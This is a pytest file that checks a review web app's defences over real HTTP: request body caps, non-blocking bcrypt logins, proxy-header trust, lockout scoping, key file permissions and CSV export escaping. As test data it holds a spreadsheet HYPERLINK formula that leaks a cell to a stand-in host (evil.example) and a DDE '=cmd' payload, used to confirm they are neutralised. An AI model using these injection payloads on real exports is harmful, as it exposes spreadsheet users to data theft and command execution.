"""Resource and trust limits, probed over real HTTP (uvicorn on 127.0.0.1) as issue 14's attacker did:
the body cap, a server that keeps serving while bcrypt runs, a lockout nobody can aim at another user,
X-Forwarded-For believed only from configured proxies, the session key file's mode, and CSV exports
that a spreadsheet cannot run.
"""

from __future__ import annotations

import base64
import csv
import io
import os
import socket
import threading
import time
from pathlib import Path

import httpx
import polars as pl
import pytest
from review_app_support import PASSWORD, SECRET, Env, csrf_from, seed_frame, serve

from shelfwise.errors import ConfigError
from verification import QueueStore
from verification.app import ReviewAppConfig, create_app
from verification.app._factory import SECRET_ENV, resolve_secret_key
from verification.exchange import FORMULA_PREFIXES

ROOT = {"Authorization": "Basic " + base64.b64encode(f"root:{PASSWORD}".encode()).decode()}
EVIL_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"details")'


def _raw(base: str, head: bytes, body_chunks: list[bytes] = ()) -> tuple[bytes, int]:  # type: ignore[assignment]
    """Send a raw request; returns the response bytes and how many body bytes were sent before it came."""
    host, port = base.removeprefix("http://").split(":")
    sent = 0
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head)
        sock.settimeout(0.05)
        answer = b""
        for chunk in body_chunks:
            try:
                answer = sock.recv(65536)
            except (TimeoutError, BlockingIOError):
                pass
            if answer:
                break
            try:
                sock.sendall(chunk)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += len(chunk)
        sock.settimeout(10)
        while True:  # the refusal closes the connection
            try:
                more = sock.recv(65536)
            except ConnectionResetError:
                break
            if not more:
                break
            answer += more
    return answer, sent


def test_oversized_bodies_get_413_before_they_are_read(env: Env) -> None:
    with serve(env.app) as base:
        # a declared 200 MB body: refused at once, the body is never sent
        head = (
            b"POST /api/items/1/decision HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 200000000\r\n\r\n"
        )
        answer, _ = _raw(base, head)
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
        assert b"at most 65,536 bytes" in answer
        # chunked, no Content-Length: refused after the cap, long before the 200 MB are through
        head = (
            b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
        )
        chunk = b"%x\r\n%s\r\n" % (16384, b"a" * 16384)
        answer, sent = _raw(base, head, [chunk] * 12_800)
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
        assert sent < 2_000_000
        # a malformed length is a 400, a normal request still works
        answer, _ = _raw(base, b"POST /api/me HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 400"), answer[:200]
        assert httpx.get(f"{base}/api/me", headers=ROOT).status_code == 200
        ok = httpx.post(f"{base}/api/queues/suspect/claim", json={"limit": 1}, headers=ROOT)
        assert ok.status_code == 200


def test_bcrypt_logins_do_not_block_static_files(env: Env) -> None:
    """Eight slow (cost 12) logins in flight; a static file still comes back before they are done."""
    QueueStore(env.db_url, bcrypt_rounds=12).add_user("slow", "slow password 1")
    with serve(env.app) as base:
        finished: list[float] = []

        def log_in(i: int) -> None:
            with httpx.Client(base_url=base, timeout=120) as c:
                token = csrf_from(c.get("/login").text)
                c.post("/login", data={"username": "slow", "password": f"wrong {i}!", "csrf_token": token})
                finished.append(time.monotonic())

        threads = [threading.Thread(target=log_in, args=(i,)) for i in range(8)]
        for t in threads:
            t.start()
        time.sleep(0.05)
        static_done = []
        with httpx.Client(base_url=base, timeout=120) as c:
            for _ in range(3):
                assert c.get("/static/app.css").status_code == 200
                static_done.append(time.monotonic())
        for t in threads:
            t.join()
    assert len(finished) == 8
    # the event loop was free: all three static files were served while most logins were still running
    assert static_done[-1] < sorted(finished)[4], (static_done, sorted(finished))


def _login(client: httpx.Client, username: str, password: str, forwarded: str | None = None) -> int:
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    token = csrf_from(client.get("/login").text)
    resp = client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": token},
        headers=headers,
    )
    client.cookies.clear()
    return resp.status_code


def _app(env: Env, **kwargs) -> object:  # type: ignore[no-untyped-def]
    return create_app(
        ReviewAppConfig(
            db_url=env.db_url,
            taxonomy_path=str(env.taxonomy_path),
            secret_key=SECRET,
            image_root=str(env.image_root),
            **kwargs,
        )
    )


def test_forwarded_for_is_ignored_unless_the_peer_is_a_trusted_proxy(env: Env) -> None:
    with serve(_app(env)) as base, httpx.Client(base_url=base, follow_redirects=False) as c:
        for i in range(5):  # a local client rotating made-up addresses
            assert _login(c, "bob", "guess-guess", forwarded=f"203.0.113.{i}") == 401
        assert _login(c, "bob", PASSWORD, forwarded="198.51.100.99") == 429  # the header bought nothing


def test_a_guesser_elsewhere_cannot_lock_the_user_out(env: Env) -> None:
    with serve(_app(env, trusted_proxies=["127.0.0.1"])) as base:
        with httpx.Client(base_url=base, follow_redirects=False) as c:
            for _ in range(5):
                assert _login(c, "bob", "guess-guess", forwarded="203.0.113.5") == 401
            assert _login(c, "bob", PASSWORD, forwarded="203.0.113.5") == 429  # the guesser is stopped
            assert _login(c, "bob", PASSWORD, forwarded="198.51.100.7") == 303  # bob, elsewhere, gets in
            # many addresses guessing one name: everyone waits a little, bob still gets in
            for i in range(12):
                assert _login(c, "alice", "guess-guess", forwarded=f"192.0.2.{i}") == 401
            started = time.monotonic()
            assert _login(c, "alice", PASSWORD, forwarded="198.51.100.8") == 303
            assert time.monotonic() - started >= 0.5  # the soft back-off
        # basic auth follows the same rule
        headers = {"X-Forwarded-For": "203.0.113.9"}
        bad = {"Authorization": "Basic " + base64.b64encode(b"bob:nope-nope").decode()}
        good = {"Authorization": "Basic " + base64.b64encode(f"bob:{PASSWORD}".encode()).decode()}
        for _ in range(5):
            assert httpx.get(f"{base}/api/me", headers={**bad, **headers}).status_code == 401
        assert httpx.get(f"{base}/api/me", headers={**good, **headers}).status_code == 401
        assert (
            httpx.get(f"{base}/api/me", headers={**good, "X-Forwarded-For": "198.51.100.7"}).status_code
            == 200
        )


def test_session_key_file_readable_by_others_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(SECRET_ENV, raising=False)
    monkeypatch.setenv("SHELFWISE_STATE_DIR", str(tmp_path))
    key_file = tmp_path / "review_secret.key"
    key_file.write_text("k" * 43 + "\n")
    os.chmod(key_file, 0o644)
    with pytest.raises(ConfigError, match=r"mode 0644.*chmod 600"):
        resolve_secret_key(None)
    os.chmod(key_file, 0o600)
    assert resolve_secret_key(None) == "k" * 43


def test_csv_export_cells_cannot_run_as_formulas(env: Env, real_data: Path) -> None:
    store = QueueStore(env.db_url, bcrypt_rounds=4)
    frame = seed_frame(real_data, run_id="run-evil")
    evil = frame.head(1).with_columns(
        sku_id=pl.lit("=cmd|' /C calc'!A0"),
        title=pl.lit("+SUM(1,2)"),
        current_category_path=pl.lit("@SUM(A1)"),
        queue=pl.lit("audit"),
    )
    store.enqueue(evil, run_id="run-evil")
    (item,) = store.claim("audit", "root", limit=1)
    store.close()
    with serve(env.app) as base:
        resp = httpx.post(
            f"{base}/api/items/{item.id}/decision", json={"kind": "accept", "note": EVIL_NOTE}, headers=ROOT
        )
        assert resp.status_code == 200, resp.text
        export = httpx.get(f"{base}/api/export", params={"fmt": "csv"}, headers=ROOT)
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    row = next(r for r in rows if r["sku_id"].endswith("calc'!A0"))
    assert row["sku_id"] == "'=cmd|' /C calc'!A0"
    assert row["title"] == "'+SUM(1,2)" and row["previous_category_path"] == "'@SUM(A1)"
    assert row["note"] == "'" + EVIL_NOTE
    assert not any(cell.startswith(FORMULA_PREFIXES) for r in rows for cell in r.values())
